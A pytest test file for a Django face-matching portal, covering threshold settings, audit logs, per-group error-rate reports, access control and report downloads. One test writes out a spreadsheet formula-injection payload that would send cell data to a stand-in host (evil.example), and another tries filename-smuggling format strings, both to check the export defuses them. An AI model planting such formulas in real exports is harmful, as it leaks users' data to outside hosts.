from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from matching.models import AuditGroup
from portal.models import AuditEvent
from tests.factories import audit_run_rows, searchable_subjects


def test_org_admin_sees_threshold_advice_from_the_latest_audit(client, dana, audit_run):
    client.force_login(dana)

    page = client.get(reverse("matching:organisation_settings")).content.decode()

    worst = min(
        (g for g in audit_run.groups.filter(insufficient=False).exclude(key="all") if g.threshold_at_target),
        key=lambda g: g.threshold_at_target,
    )
    assert worst.key in page and f"{worst.threshold_at_target:.3f}" in page
    assert "of true matches would be missed" in page


def test_changing_the_threshold_is_recorded(client, dana, org):
    client.force_login(dana)

    response = client.post(
        reverse("matching:organisation_settings"),
        {"distance_threshold": "0.5", "max_candidates": "5", "target_fmr": "0.001", "audit_max_age_days": "180"},
    )

    assert response.status_code == 302
    org.refresh_from_db()
    assert org.distance_threshold == 0.5
    event = AuditEvent.objects.get(action="organisation.update")
    assert event.actor == dana and event.detail["changes"]["distance_threshold"] == [0.6, 0.5]


def test_a_bad_threshold_is_refused_and_nothing_changes(client, dana, org):
    client.force_login(dana)

    response = client.post(
        reverse("matching:organisation_settings"),
        {"distance_threshold": "7", "max_candidates": "5", "target_fmr": "0.001", "audit_max_age_days": "180"},
    )

    assert response.status_code == 400
    org.refresh_from_db()
    assert org.distance_threshold == 0.6 and not AuditEvent.objects.filter(action="organisation.update").exists()


def test_reviewers_and_caseworkers_cannot_change_settings(client, bob, alice):
    for user in (bob, alice):
        client.force_login(user)
        assert client.get(reverse("matching:organisation_settings")).status_code == 404


def test_the_audit_report_page_and_downloads(client, bob, audit_run, charlie):
    client.force_login(bob)

    page = client.get(reverse("matching:audit_report", args=[audit_run.pk]))
    csv_body = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "csv"])).content.decode()
    json_body = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "json"])).json()

    assert page.status_code == 200 and "<svg" in page.content.decode()
    assert csv_body.splitlines()[0].startswith("group,identities,photos")
    assert json_body["run"]["id"] == audit_run.pk
    client.force_login(charlie)
    assert client.get(reverse("matching:audit_report", args=[audit_run.pk])).status_code == 404


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_audit_csv_download_defuses_cells_a_spreadsheet_would_run(client, bob, org, start):
    # given: an evaluation set whose uploader named a column with a formula, so that it leads a group key
    run = audit_run_rows(org)
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Open")=White'
    AuditGroup.objects.filter(run=run).update(key=formula)
    client.force_login(bob)

    # when: a reviewer downloads the report as CSV
    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))

    # then: the cell is text, quoted, and nothing else changed
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert response.status_code == 200
    assert rows[1][0] == f"'{formula}"
    assert rows[1][1:4] == ["2", "4", "4"]


def test_the_audit_csv_download_leaves_plain_cells_alone(client, bob, org):
    run = audit_run_rows(org)
    AuditGroup.objects.filter(run=run).update(key="race=White & age_group=18 and over")
    client.force_login(bob)

    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))

    assert list(csv.reader(io.StringIO(response.content.decode())))[1][0] == "race=White & age_group=18 and over"


@pytest.mark.parametrize("fmt", ["html", "exe", "CSV", 'csv";filename="report.exe', "json.html"])
def test_the_audit_download_serves_only_csv_and_json(client, bob, org, fmt):
    run = audit_run_rows(org)
    client.force_login(bob)

    response = client.get(f"/audits/runs/{run.pk}/download.{fmt}")

    assert response.status_code == 404
    assert "Content-Disposition" not in response
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_settings_show_fpir_per_group_and_the_worst_group_for_this_gallery(client, dana, audit_run, org):
    # Given a gallery of 300 subjects with nothing recorded: every stranger is compared with all of them
    searchable_subjects(org, 300)
    client.force_login(dana)

    page = client.get(reverse("matching:organisation_settings")).content.decode()

    # Then the plot, the worst-group table with FNMR, the per-group table, and the advice in 1:N terms
    assert "<svg" in page and "worst group (FPIR)" in page
    assert 'id="fpir-worst"' in page and 'id="fpir-groups"' in page
    assert "returns a candidate in" in page and "of true matches are missed" in page
    assert "300</strong> searchable subjects" in page
    # and at the default 0.6 some sufficient group's strangers get a candidate in most searches: the warning
    assert 'id="fpir-alarm"' in page and "most searches for a stranger return a candidate" in page


def test_the_fpir_warning_goes_once_the_threshold_is_low_enough(client, dana, audit_run, org):
    searchable_subjects(org, 300)
    org.distance_threshold = 0.3
    org.save(update_fields=["distance_threshold"])
    client.force_login(dana)

    page = client.get(reverse("matching:organisation_settings")).content.decode()

    assert 'id="fpir-alarm"' not in page


def test_the_audit_json_carries_intervals_method_effective_n_and_the_spread_of_fmr(client, bob, audit_run):
    client.force_login(bob)

    document = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "json"])).json()
    page = client.get(reverse("matching:audit_report", args=[audit_run.pk])).content.decode()

    assert document["run"]["interval_method"].startswith("identity-level Wilson")
    group = next(g for g in document["groups"] if g["key"] == "race=Asian")
    rate = next(r for r in group["rates"] if r["threshold"] == 0.6)
    assert rate["fmr_effective_n"] < rate["impostor_pairs"] and group["effective_pairs"] == rate["fmr_effective_n"]
    assert "fnmr_at_target_ci95" in group
    spread = {row["threshold"]: row for row in document["fmr_max_to_geomean"]}
    assert spread[0.6]["ratio"] > 1 and spread[0.6]["groups"] >= 2
    assert not any("age_band=" in g["key"] and "age_group=" in g["key"] for g in document["groups"])
    # Every group is drawn, or listed with the reason it is not
    for g in document["groups"]:
        assert g["key"].replace("&", "&amp;") in page
    assert "Groups not drawn" in page and "insufficient data:" in page
